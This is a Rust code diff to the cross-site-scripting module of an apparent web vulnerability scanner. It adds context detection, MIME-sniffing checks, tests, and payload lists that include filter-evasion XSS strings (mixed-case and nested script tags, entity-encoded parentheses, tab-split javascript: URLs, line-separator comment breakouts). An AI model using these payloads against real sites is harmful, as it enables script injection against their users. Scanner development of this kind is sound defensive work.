@@ -54,7 +54,19 @@ pub(crate) fn meta() -> ModuleMeta {
                 id: "XSS_04",
                 kind: "URL attribute context",
                 class: "Cross-Site Scripting",
-                description: "A javascript: URL injected into an href or src attribute, confirmed by parsing.",
+                description: "A javascript: URL injected into an attribute browsers navigate to (a/area href, iframe src, form action, formaction, object data; never script src or link href), confirmed by parsing.",
+            },
+            AttackMeta {
+                id: "XSS_05",
+                kind: "Tag-name and attribute-name contexts",
+                class: "Cross-Site Scripting",
+                description: "Input that becomes a tag name or an attribute name gains an event handler, confirmed by parsing.",
+            },
+            AttackMeta {
+                id: "XSS_06",
+                kind: "JavaScript comment context",
+                class: "Cross-Site Scripting",
+                description: "Ending a // comment with a line terminator or a /* */ comment with */, confirmed by parsing the script text.",
             },
         ],
     }
@@ -76,6 +88,82 @@ pub(crate) enum Context {
     /// Inside an `on*` event-handler attribute.
     Handler,
     Comment,
+    /// The input is (part of) a tag name: `<INPUT>`.
+    TagName,
+    /// The input is (part of) an attribute name: `<div INPUT>`.
+    AttrName,
+    /// Inside a `//` comment of a script.
+    ScriptLineComment,
+    /// Inside a `/* */` comment of a script.
+    ScriptBlockComment,
+}
+
+/// Where in a script a position falls.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum JsRegion {
+    Code,
+    Str,
+    LineComment,
+    BlockComment,
+}
+
+/// The region of `js` in which `needle` first occurs.
+fn js_region(js: &str, needle: &str) -> Option<JsRegion> {
+    let at = js.find(needle)?;
+    let b = js.as_bytes();
+    let mut i = 0;
+    let mut region = JsRegion::Code;
+    let mut quote = 0u8;
+    while i < at {
+        match region {
+            JsRegion::Code => {
+                if b[i..].starts_with(b"//") {
+                    region = JsRegion::LineComment;
+                    i += 1;
+                } else if b[i..].starts_with(b"/*") {
+                    region = JsRegion::BlockComment;
+                    i += 1;
+                } else if matches!(b[i], b'\'' | b'"' | b'`') {
+                    region = JsRegion::Str;
+                    quote = b[i];
+                }
+            }
+            JsRegion::Str => {
+                if b[i] == b'\\' {
+                    i += 1;
+                } else if b[i] == quote {
+                    region = JsRegion::Code;
+                }
+            }
+            JsRegion::LineComment => {
+                if line_end(&b[i..]) {
+                    region = JsRegion::Code;
+                }
+            }
+            JsRegion::BlockComment => {
+                if b[i..].starts_with(b"*/") {
+                    region = JsRegion::Code;
+                    i += 1;
+                }
+            }
+        }
+        i += 1;
+    }
+    Some(region)
+}
+
+/// Whether a browser runs a `javascript:` URL held by attribute `attr` of element `tag`
+/// (followed as a link, loaded as a frame, submitted): never for `<script src>`,
+/// `<link href>`, `<img src>`.
+pub(crate) fn runs_js_url(tag: &str, attr: &str) -> bool {
+    matches!(
+        (tag, attr),
+        ("a" | "area", "href")
+            | ("iframe" | "frame", "src")
+            | ("form", "action")
+            | ("button" | "input", "formaction")
+            | ("object", "data")
+    )
 }
 
 /// The contexts in which `canary` appears in `html`.
@@ -89,7 +177,11 @@ pub(crate) fn contexts(html: &str, canary: &str) -> Vec<Context> {
                     .parent()
                     .and_then(|p| p.value().as_element().map(|e| e.name().to_string()));
                 let c = match parent.as_deref() {
-                    Some("script") => Context::Script,
+                    Some("script") => match js_region(t, canary) {
+                        Some(JsRegion::LineComment) => Context::ScriptLineComment,
+                        Some(JsRegion::BlockComment) => Context::ScriptBlockComment,
+                        _ => Context::Script,
+                    },
                     Some(
                         n @ ("textarea" | "title" | "style" | "noscript" | "xmp" | "iframe"
                         | "noembed"),
@@ -100,14 +192,20 @@ pub(crate) fn contexts(html: &str, canary: &str) -> Vec<Context> {
             }
             Node::Comment(c) if c.contains(canary) => out.push(Context::Comment),
             Node::Element(e) => {
+                let lc = canary.to_ascii_lowercase();
+                if e.name().contains(&lc) {
+                    out.push(Context::TagName);
+                }
                 for (name, value) in e.attrs() {
+                    if name.contains(&lc) {
+                        out.push(Context::AttrName);
+                    }
                     if !value.contains(canary) {
                         continue;
                     }
                     let c = if name.starts_with("on") {
                         Context::Handler
-                    } else if matches!(name, "href" | "src" | "action" | "formaction" | "data")
-                        && value.starts_with(canary)
+                    } else if runs_js_url(e.name(), name) && value.trim_start().starts_with(canary)
                     {
                         Context::Url
                     } else {
@@ -148,7 +246,7 @@ pub(crate) fn in_code(js: &str, needle: &str) -> bool {
                     return true;
                 }
                 if b[i..].starts_with(b"//") {
-                    while i < b.len() && b[i] != b'\n' {
+                    while i < b.len() && !line_end(&b[i..]) {
                         i += 1;
                     }
                 } else if b[i..].starts_with(b"/*") {
@@ -171,6 +269,13 @@ pub(crate) fn in_code(js: &str, needle: &str) -> bool {
     false
 }
 
+/// A JavaScript line terminator starts `b`: LF, CR, U+2028 or U+2029.
+fn line_end(b: &[u8]) -> bool {
+    matches!(b.first(), Some(b'\n' | b'\r'))
+        || b.starts_with("\u{2028}".as_bytes())
+        || b.starts_with("\u{2029}".as_bytes())
+}
+
 /// The payload proves script execution in the parsed page.
 pub(crate) fn proven(html: &str, marker: &str) -> bool {
     let call = format!("{marker}(");
@@ -178,13 +283,19 @@ pub(crate) fn proven(html: &str, marker: &str) -> bool {
     for node in doc.tree.nodes() {
         if let Node::Element(e) = node.value() {
             for (name, value) in e.attrs() {
-                let lv = value.trim().to_ascii_lowercase();
                 if name.starts_with("on") && in_code(value, &call) {
                     return true;
                 }
-                if matches!(name, "href" | "src" | "action" | "formaction" | "data")
-                    && lv.starts_with("javascript:")
-                    && in_code(&value.trim()[11..], &call)
+                // The URL parser drops tabs and line breaks anywhere and spaces around.
+                let url: String = value
+                    .chars()
+                    .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+                    .collect();
+                let url = url.trim_matches(|c: char| c <= ' ');
+                if runs_js_url(e.name(), name)
+                    && url.len() > 11
+                    && url[..11].eq_ignore_ascii_case("javascript:")
+                    && in_code(&url[11..], &call)
                 {
                     return true;
                 }
@@ -207,21 +318,54 @@ pub(crate) fn proven(html: &str, marker: &str) -> bool {
 pub(crate) fn payloads(c: &Context, m: &str) -> Vec<(&'static str, String)> {
     let el = format!("<svg onload={m}()>");
     match c {
+        // Then evasions of common filters: spaces, parentheses, case, strip-once, tags
+        // browsers sniff a response by.
         Context::Text => vec![
             ("XSS_01", el),
             ("XSS_01", format!("<img src=x onerror={m}()>")),
+            ("XSS_01", format!("<script>{m}()</script>")),
+            ("XSS_01", format!("<svg/onload={m}()>")),
+            ("XSS_01", format!("<svg/onload={m}&#40;&#41;>")),
+            ("XSS_01", format!("<ScRiPt>{m}()</sCrIpT>")),
+            ("XSS_01", format!("<scr<script>ipt>{m}()</scr</script>ipt>")),
+            ("XSS_01", format!("<iframe onload={m}()>")),
+        ],
+        Context::TagName => vec![
+            ("XSS_05", format!("svg onload={m}() x")),
+            ("XSS_05", format!("img src=x onerror={m}() x")),
+            ("XSS_05", format!("x>{el}")),
+        ],
+        Context::AttrName => vec![
+            ("XSS_05", format!("onmouseover={m}() x")),
+            ("XSS_05", format!("autofocus onfocus={m}() x")),
+            ("XSS_05", format!("x>{el}")),
+        ],
+        Context::ScriptLineComment => vec![
+            ("XSS_06", format!("\n{m}();//")),
+            ("XSS_06", format!("\u{2028}{m}();//")),
+            ("XSS_06", format!("</script>{el}")),
+        ],
+        Context::ScriptBlockComment => vec![
+            ("XSS_06", format!("*/{m}();/*")),
+            ("XSS_06", format!("</script>{el}")),
         ],
         Context::RawText(tag) => vec![("XSS_01", format!("</{tag}>{el}"))],
         Context::Comment => vec![("XSS_01", format!("-->{el}"))],
         Context::Attr(Some(q)) => vec![
             ("XSS_02", format!("{q} onmouseover={q}{m}(){q} x={q}")),
             ("XSS_02", format!("{q}>{el}")),
+            ("XSS_02", format!("{q}/onmouseover={q}{m}&#40;&#41;{q} x={q}")),
         ],
         Context::Attr(None) => vec![
             ("XSS_02", format!("x onmouseover={m}() ")),
             ("XSS_02", format!("x>{el}")),
         ],
-        Context::Url => vec![("XSS_04", format!("javascript:{m}()"))],
+        Context::Url => vec![
+            ("XSS_04", format!("javascript:{m}()")),
+            ("XSS_04", format!("JaVaScRiPt:{m}()")),
+            ("XSS_04", format!("java\tscript:{m}()")),
+            ("XSS_04", format!("javascript&#58;{m}()")),
+        ],
         Context::Handler => vec![
             ("XSS_03", format!("'-{m}()-'")),
             ("XSS_03", format!("\"-{m}()-\"")),
@@ -231,6 +375,7 @@ pub(crate) fn payloads(c: &Context, m: &str) -> Vec<(&'static str, String)> {
             ("XSS_03", format!("'-{m}()-'")),
             ("XSS_03", format!("\"-{m}()-\"")),
             ("XSS_03", format!("`-{m}()-`")),
+            ("XSS_03", format!("\\'-{m}()//")),
             ("XSS_03", format!("</script>{el}")),
             ("XSS_03", format!(";{m}();//")),
         ],
@@ -246,20 +391,26 @@ pub(crate) async fn attack(
     if ctx.already(KEY, r, Some(p)).await {
         return Ok(());
     }
-    let canary = format!("rmc{}", crate::rand_id(8));
-    let probe = inject(ctx, r, p, &canary).await?;
-    if !probe.response.is_html() {
-        return Ok(());
+    // The canary carries quote, tag and backslash characters first (some inputs are echoed
+    // only when they hold one, in an error message), then plain (some are rejected).
+    let mut landed = None;
+    for special in [CANARY_SPECIAL, ""] {
+        let canary = format!("rmc{}", crate::rand_id(8));
+        let probe = inject(ctx, r, p, &format!("{canary}{special}")).await?;
+        let text = probe.response.text();
+        if may_render_html(&probe.response) && text.contains(&canary) {
+            landed = Some((canary, text));
+            break;
+        }
     }
-    let text = probe.response.text();
-    if !text.contains(&canary) {
+    let Some((canary, text)) = landed else {
         return Ok(());
-    }
+    };
     for c in contexts(&text, &canary) {
         let marker = format!("rmx{}", crate::rand_id(6));
         for (attack_id, payload) in payloads(&c, &marker) {
             let sent = inject(ctx, r, p, &payload).await?;
-            if sent.response.is_html() && proven(&sent.response.text(), &marker) {
+            if renders_html(&sent.response) && proven(&sent.response.text(), &marker) {
                 ctx.report_point(r, Some(p), Hit {
                     module: KEY,
                     attack_id,
@@ -278,9 +429,107 @@ pub(crate) async fn attack(
     Ok(())
 }
 
+/// What follows the canary in the first probe: a quote of each kind, a tag's brackets and a
+/// backslash.
+const CANARY_SPECIAL: &str = "'\"<>\\";
+
+/// The response is HTML, or has no type and may be sniffed as HTML.
+fn may_render_html(r: &crate::http::HttpResponse) -> bool {
+    r.is_html() || (r.content_type().is_empty() && !nosniff(r))
+}
+
+fn nosniff(r: &crate::http::HttpResponse) -> bool {
+    r.header("x-content-type-options")
+        .is_some_and(|v| v.trim().eq_ignore_ascii_case("nosniff"))
+}
+
+/// A browser renders the response as HTML: declared so, or without a declared type and
+/// starting with what the MIME sniffing algorithm takes for HTML.
+pub(crate) fn renders_html(r: &crate::http::HttpResponse) -> bool {
+    let ct = r.content_type().to_ascii_lowercase();
+    if !ct.is_empty() {
+        return ct.contains("html");
+    }
+    !nosniff(r) && sniffs_as_html(&r.body)
+}
+
+/// The WHATWG MIME sniffing rule for HTML: after leading whitespace, one of the listed tags
+/// (case-insensitive) followed by a space or `>`, or a comment.
+fn sniffs_as_html(body: &[u8]) -> bool {
+    const TAGS: &[&str] = &[
+        "<!doctype html", "<html", "<head", "<script", "<iframe", "<h1", "<div", "<font",
+        "<table", "<a", "<style", "<title", "<b", "<body", "<br", "<p",
+    ];
+    let start = body
+        .iter()
+        .position(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c'))
+        .unwrap_or(body.len());
+    let head = String::from_utf8_lossy(&body[start..body.len().min(start + 32)]).to_ascii_lowercase();
+    head.starts_with("<!--")
+        || TAGS.iter().any(|t| {
+            head.starts_with(t) && matches!(head.as_bytes().get(t.len()), Some(b' ' | b'>'))
+        })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn new_contexts_are_classified() {
+        let c = "rmcq1w2";
+        let table: &[(&str, String, Context)] = &[
+            ("tag name", format!("<{c}>Title</{c}>"), Context::TagName),
+            ("attribute name", format!("<div class=\"w\" {c}>x</div>"), Context::AttrName),
+            ("line comment", format!("<script>// campaign {c}\nvar a=1;</script>"), Context::ScriptLineComment),
+            ("block comment", format!("<script>/* note {c} */ var a=1;</script>"), Context::ScriptBlockComment),
+            ("string after a comment", format!("<script>// x\nvar a='{c}';</script>"), Context::Script),
+            ("iframe src", format!("<iframe src=\"{c}\"></iframe>"), Context::Url),
+            ("script src is not a URL context", format!("<script src=\"{c}\"></script>"), Context::Attr(Some('"'))),
+            ("special canary in an attribute", format!("<input value=\"{c}'\"<>\\\">"), Context::Attr(Some('"'))),
+        ];
+        for (name, html, want) in table {
+            assert!(contexts(html, c).contains(want), "{name}: {:?}", contexts(html, c));
+        }
+        assert!(!contexts(&format!("<script src=\"{c}\"></script>"), c).contains(&Context::Url));
+    }
+
+    #[test]
+    fn javascript_urls_prove_only_where_browsers_run_them() {
+        let table: &[(&str, bool)] = &[
+            ("<a href=\"javascript:rmx1()\">x</a>", true),
+            ("<a href=\" JaVaScRiPt:rmx1()\">x</a>", true),
+            ("<a href=\"java&#9;script:rmx1()\">x</a>", true),
+            ("<iframe src=\"javascript:rmx1()\"></iframe>", true),
+            ("<form action=\"javascript:rmx1()\"></form>", true),
+            ("<script src=\"javascript:rmx1()\"></script>", false),
+            ("<link rel=stylesheet href=\"javascript:rmx1()\">", false),
+            ("<img src=\"javascript:rmx1()\">", false),
+            ("<script>// x\nrmx1();//</script>", true),
+            ("<script>// x rmx1();//</script>", false),
+            ("<script>// x\u{2028}rmx1();//</script>", true),
+            ("<script>/* x */rmx1();/* */</script>", true),
+            ("<script>/* x *\\/rmx1();/* */</script>", false),
+            ("<svg onload=rmx1&#40;&#41;>", true),
+            ("<div class=\"w\" onmouseover=rmx1() x>x</div>", true),
+        ];
+        for (html, want) in table {
+            assert_eq!(proven(html, "rmx1"), *want, "{html}");
+        }
+    }
+
+    #[test]
+    fn sniffing() {
+        use crate::checks::common::recorded;
+        let none = |b: &str| recorded(200, &[], b);
+        assert!(renders_html(&none("<script>rmx1()</script>")));
+        assert!(renders_html(&none("  <b onmouseover=x>")));
+        assert!(!renders_html(&none("{\"msg\":\"<script>x</script>\"}")));
+        assert!(!renders_html(&none("<svg onload=x>")), "svg is not sniffed");
+        assert!(!renders_html(&recorded(200, &[("x-content-type-options", "nosniff")], "<script>x</script>")));
+        assert!(!renders_html(&recorded(200, &[("content-type", "text/plain")], "<script>x</script>")));
+        assert!(renders_html(&recorded(200, &[("content-type", "text/html")], "x")));
+    }
 
     #[test]
     fn contexts_and_proofs() {
@@ -407,7 +656,12 @@ mod tests {
                 format!("<title>{c}</title>"),
                 Context::RawText("title".into()),
             ),
-            ("src url", format!("<img src=\"{c}.png\">"), Context::Url),
+            ("link url", format!("<a href=\"{c}.html\">x</a>"), Context::Url),
+            (
+                "img src: javascript: never runs there",
+                format!("<img src=\"{c}.png\">"),
+                Context::Attr(Some('"')),
+            ),
             (
                 "href not at start",
                 format!("<a href=\"/s?q={c}\">x</a>"),
@@ -431,10 +685,14 @@ mod tests {
             Context::Attr(None),
             Context::Attr(Some('"')),
             Context::RawText("title".into()),
+            Context::TagName,
+            Context::AttrName,
+            Context::ScriptLineComment,
+            Context::ScriptBlockComment,
         ] {
             let p = payloads(&ctx, "rmx1");
             assert!(
-                !p.is_empty() && p.iter().all(|(_, v)| v.contains("rmx1()")),
+                !p.is_empty() && p.iter().all(|(_, v)| v.contains("rmx1")),
                 "{ctx:?}"
             );
         }
